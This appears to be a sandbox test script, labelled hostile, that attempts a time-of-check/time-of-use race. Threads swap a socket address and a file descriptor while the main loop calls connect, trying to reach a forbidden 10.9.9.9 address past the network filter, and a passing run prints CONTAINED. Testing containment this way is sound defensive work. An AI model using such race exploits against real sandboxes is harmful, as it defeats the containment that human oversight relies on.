# expect: outcome=exited exit=0 stdout~=CONTAINED stdout!~=ESCAPED
# why: another thread changes the address, the descriptor and whether it blocks, while the server looks at them.
# network: true
# limits: wall_ms=20000
if not __import__("os").getcwd().startswith("/sandbox/"):
    raise SystemExit("a hostile program: run it with `sandbox run FILE`, never on the host itself")

import ctypes
import fcntl
import os
import socket
import struct
import threading

libc = ctypes.CDLL(None, use_errno=True)


def inet(address):
    return struct.pack("H", socket.AF_INET) + struct.pack(">H", 80) + socket.inet_aton(address) + bytes(8)


good, bad = inet("93.184.216.34"), inet("10.9.9.9")
shared = ctypes.create_string_buffer(good, 16)
over = False


def change_address():
    # A copy in C, outside of the interpreter's lock for most of the time.
    while not over:
        for _ in range(100):
            ctypes.memmove(shared, bad, 16)
            ctypes.memmove(shared, good, 16)


def change_descriptor(number):
    spare = socket.socket()
    while not over:
        try:
            os.dup2(spare.fileno(), number)
            fcntl.fcntl(number, fcntl.F_SETFL, 0)
            fcntl.fcntl(number, fcntl.F_SETFL, os.O_NONBLOCK)
            os.dup2(0, number)
        except OSError:
            pass


number = 200
threads = [threading.Thread(target=change_address), threading.Thread(target=change_descriptor, args=(number,))]
[thread.start() for thread in threads]
peers = {}
for attempt in range(2000):
    sock = socket.socket()
    if libc.connect(sock.fileno(), shared, 16) == 0:
        try:
            peer = sock.getpeername()[0]
        except OSError:
            peer = "none"
        peers[peer] = peers.get(peer, 0) + 1
    sock.close()
    libc.connect(number, shared, 16)
over = True
[thread.join() for thread in threads]
print(peers)
if set(peers) - {"93.184.216.34"}:
    print("ESCAPED", peers)
print("CONTAINED")
